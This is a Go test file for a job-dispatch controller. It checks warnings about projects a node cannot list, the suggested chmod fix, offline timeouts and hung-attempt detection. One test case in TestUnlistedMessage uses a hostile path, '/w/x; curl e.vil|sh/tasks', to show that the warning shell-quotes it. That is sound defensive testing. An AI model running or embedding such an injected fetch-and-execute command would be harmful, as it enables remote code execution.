package controller

import (
	"errors"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/dispatch-tool/dispatch/domain"
	"github.com/dispatch-tool/dispatch/wire"
)

// TestDecideUnlisted: a project a node cannot list is said once per node
// and project, in a warning event, and when it was first named is kept
// while the node's replies keep naming it; a pull that says nothing new of
// the node (failed, skipped, a stream's) or a live listing that does not
// name it (mode --x: it reads the named tasks) keeps it; only a full
// listing that lists it again forgets it, so that the next time is said
// again.
func TestDecideUnlisted(t *testing.T) {
	p1 := unlistedKey{"n1", "p"}
	earlier := t0.Add(-3 * time.Minute)
	served := map[string]bool{"p": true, "q": true}
	for _, tc := range []struct {
		name   string
		pulls  map[string]any
		skip   bool // n1's pull skipped (still busy)
		live   bool // n1's reply is a live listing
		said   []unlistedKey
		want   string // "node/project@minutes-before-t0 ..." after the tick
		events string // "node project, ..."
	}{
		{name: "new: said", pulls: map[string]any{"n1": unlistedReply{unlisted: []string{"p"}}},
			want: "n1/p@0", events: "n1 p"},
		{name: "new in a live listing: said", pulls: map[string]any{"n1": unlistedReply{unlisted: []string{"p"}}}, live: true,
			want: "n1/p@0", events: "n1 p"},
		{name: "said before: not again, first time kept", pulls: map[string]any{"n1": unlistedReply{unlisted: []string{"p"}}},
			said: []unlistedKey{p1}, want: "n1/p@3"},
		{name: "listed again by a full listing: forgotten", pulls: map[string]any{"n1": unlistedReply{}}, said: []unlistedKey{p1}},
		{name: "a live listing that does not name it keeps it", pulls: map[string]any{"n1": unlistedReply{}}, live: true,
			said: []unlistedKey{p1}, want: "n1/p@3"},
		{name: "a failed pull keeps it", pulls: map[string]any{"n1": errors.New("down")}, said: []unlistedKey{p1}, want: "n1/p@3"},
		{name: "a skipped pull keeps it", pulls: map[string]any{"n1": unlistedReply{}}, skip: true, said: []unlistedKey{p1}, want: "n1/p@3"},
		{name: "a stream's pull keeps it", pulls: map[string]any{"n1": streamSaid{}}, said: []unlistedKey{p1}, want: "n1/p@3"},
		{name: "a node no longer pulled drops it", pulls: map[string]any{"n2": unlistedReply{}}, said: []unlistedKey{p1}},
		{name: "a project no longer served drops it", pulls: map[string]any{"n1": unlistedReply{}}, skip: true,
			said: []unlistedKey{{"n1", "other"}}},
		{name: "a project not served is not said", pulls: map[string]any{"n1": unlistedReply{unlisted: []string{"other"}}}},
		{name: "each node and project once, in order",
			pulls: map[string]any{"n2": unlistedReply{unlisted: []string{"q", "p"}}, "n1": unlistedReply{unlisted: []string{"q", "p"}}},
			said:  []unlistedKey{p1}, want: "n1/p@3 n1/q@0 n2/p@0 n2/q@0", events: "n1 q, n2 p, n2 q"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			pulls := nodeSays(tc.pulls)
			if tc.skip {
				pulls["n1"].skipped = true
			}
			if tc.live {
				pulls["n1"].status.Listing = wire.ListingLive
			}
			since := map[unlistedKey]time.Time{}
			for _, k := range tc.said {
				since[k] = earlier
			}
			now, events := decideUnlisted(pulls, since, served, t0)
			var got []string
			for _, k := range slices.SortedFunc(maps.Keys(now), func(a, b unlistedKey) int {
				return strings.Compare(a.node+"/"+a.project, b.node+"/"+b.project)
			}) {
				got = append(got, k.node+"/"+k.project+"@"+strings.TrimSuffix(t0.Sub(now[k]).String(), "m0s"))
			}
			if g := strings.ReplaceAll(strings.Join(got, " "), "@0s", "@0"); g != tc.want {
				t.Errorf("unlisted after the tick %q, want %q", g, tc.want)
			}
			var evs []string
			for _, ev := range events {
				evs = append(evs, ev.Node+" "+ev.Project)
				if ev.Kind != "warning" || !strings.Contains(ev.Message, "chmod 700 '/w/"+ev.Project+"/tasks'") {
					t.Errorf("event %+v: want a warning naming the fix", ev)
				}
			}
			if strings.Join(evs, ", ") != tc.events {
				t.Errorf("events %q, want %q", strings.Join(evs, ", "), tc.events)
			}
		})
	}
}

// TestUnlistedMessage: the warning's fix names the controller's own path,
// quoted for a shell (the node's words are never a command to paste), and
// advises chmod only for a permission error.
func TestUnlistedMessage(t *testing.T) {
	for _, tc := range []struct {
		name, dir, err, fix string
	}{
		{"permission", "/w/p/tasks", "list tasks in /w/p/tasks: permission denied", "chmod 700 '/w/p/tasks'"},
		{"a hostile path is one word", "/w/x; curl e.vil|sh/tasks", "permission denied", `chmod 700 '/w/x; curl e.vil|sh/tasks'`},
		{"a quote in it", "/w/it's/tasks", "permission denied", `chmod 700 '/w/it'\''s/tasks'`},
		{"home", "~/.dispatch/work/p/tasks", "permission denied", "chmod 700 ~/'.dispatch/work/p/tasks'"},
		{"another error: no chmod", "/w/p/tasks", "list tasks in /w/p/tasks: input/output error", "see to that directory ('/w/p/tasks')"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			msg := unlistedMessage("n1", "p", wire.Unlisted{Project: "p", Dir: tc.dir, Error: tc.err})
			if !strings.HasSuffix(msg, tc.fix) {
				t.Errorf("message %q does not end with %q", msg, tc.fix)
			}
			if strings.Contains(tc.err, "input/output") && strings.Contains(msg, "chmod") {
				t.Errorf("message %q advises chmod for %q", msg, tc.err)
			}
		})
	}
}

// TestUnlistedAttemptsLostAfterOfflineTimeout: an attempt the reply lacks
// while its node cannot list its project is unknown, with a wake-up when
// node_offline_timeout (10m here) runs out from when the node first named
// the project unlisted, or from the attempt's last beat if later (a live
// listing may still read it); then it is lost and requeued as an offline
// node's attempt is, without using a retry.
func TestUnlistedAttemptsLostAfterOfflineTimeout(t *testing.T) {
	for _, tc := range []struct {
		name     string
		since    time.Duration // before t0; 0: first named now
		beat     time.Duration // before t0
		wantLost bool
		wake     time.Duration // after t0, when not lost
	}{
		{name: "first named now: unknown, wake at the timeout", beat: time.Hour, wake: 10 * time.Minute},
		{name: "named 9m ago: unknown", since: 9 * time.Minute, beat: time.Hour, wake: time.Minute},
		{name: "named 10m ago: lost", since: 10 * time.Minute, beat: time.Hour, wantLost: true},
		{name: "named long ago but beat 4m ago: unknown", since: time.Hour, beat: 4 * time.Minute, wake: 6 * time.Minute},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := decider(t, decideNodes)
			if tc.since > 0 {
				c.unlistedSince = map[unlistedKey]time.Time{{"n1", "p"}: t0.Add(-tc.since)}
			}
			tk := decideTask("S01", domain.Running, "n1", 1)
			tk.HeartbeatAt = t0.Add(-tc.beat)
			snap := wholeSnapshot([]domain.Task{tk}, projectFacts{}, nil)
			plan := c.decideApply(snap, nodeSays(map[string]any{"n1": unlistedReply{unlisted: []string{"p"}}}), nil, nil, t0)
			var got []string
			for _, o := range plan.ops {
				got = append(got, o.String())
			}
			ops := strings.Join(got, "\n")
			lost := strings.Contains(ops, "S01 running→lost: node n1 cannot list the tasks of project p since") &&
				strings.Contains(ops, "S01 lost→pending") && strings.Contains(ops, "does not use max_retries")
			if lost != tc.wantLost {
				t.Fatalf("lost = %v, want %v; ops:\n%s", lost, tc.wantLost, ops)
			}
			if !tc.wantLost && !plan.wake.Equal(t0.Add(tc.wake)) {
				t.Errorf("wake at %v, want %v", plan.wake, t0.Add(tc.wake))
			}
		})
	}
}

// TestUnlistedAttemptSeenAgainIsNotHung: an attempt taken for unknown
// (its node could not list its project) could not beat meanwhile, its
// supervisor writing in that directory: the first reply that sees it again
// shows the beat from before the chmod, three minutes old here. It used to
// be failed as hung at once and killed; its hung clock now counts from the
// last tick that took it for unknown. A supervisor that beats no more
// after that for heartbeat_timeout (2m) is hung, as one never unknown.
func TestUnlistedAttemptSeenAgainIsNotHung(t *testing.T) {
	seen := runningStatus("S01", 1, "1", true)
	awaiting := wire.TaskStatus{Project: "p", Task: "S01", Heartbeat: "1", Alive: true, StatusError: "status.json missing"}
	for _, tc := range []struct {
		name     string
		unknown  time.Duration // before t0: the tick that took the attempt for unknown; 0: none
		reply    wire.TaskStatus
		wantHung bool
		wake     time.Duration // after t0, when not hung
	}{
		{name: "unknown 30s ago, seen again with the beat from before: running", unknown: 30 * time.Second, reply: seen,
			wake: 90 * time.Second},
		{name: "the same, its status.json unreadable: awaited", unknown: 30 * time.Second, reply: awaiting,
			wake: 90 * time.Second},
		{name: "unknown 2m ago and no beat since: hung", unknown: 2 * time.Minute, reply: seen, wantHung: true},
		{name: "never unknown, no beat for 3m: hung", reply: seen, wantHung: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := decider(t, decideNodes)
			c.unlistedSince = map[unlistedKey]time.Time{{"n1", "p"}: t0.Add(-3 * time.Minute)}
			tk := decideTask("S01", domain.Running, "n1", 1)
			tk.HeartbeatAt = t0.Add(-3 * time.Minute)
			if tc.unknown > 0 {
				before := c.decideApply(wholeSnapshot([]domain.Task{tk}, projectFacts{}, nil),
					nodeSays(map[string]any{"n1": unlistedReply{unlisted: []string{"p"}}}), nil, nil, t0.Add(-tc.unknown))
				if len(before.ops) > 0 {
					t.Fatalf("the tick that could not list p changed something: %v", before.ops)
				}
				c.unlistedSince, c.unseenAt = before.unlisted, before.unseen
			}
			plan := c.decideApply(wholeSnapshot([]domain.Task{tk}, projectFacts{}, nil),
				nodeSays(map[string]any{"n1": []wire.TaskStatus{tc.reply}}), nil, nil, t0)
			var got []string
			for _, o := range plan.ops {
				got = append(got, o.String())
			}
			ops := strings.Join(got, "\n")
			if hung := strings.Contains(ops, "S01 running→failed: attempt 1 failed (hung)"); hung != tc.wantHung {
				t.Fatalf("hung = %v, want %v; ops:\n%s", hung, tc.wantHung, ops)
			}
			if !tc.wantHung && !plan.wake.Equal(t0.Add(tc.wake)) {
				t.Errorf("wake at %v, want %v (heartbeat_timeout from the tick that took it for unknown)", plan.wake, t0.Add(tc.wake))
			}
		})
	}
}
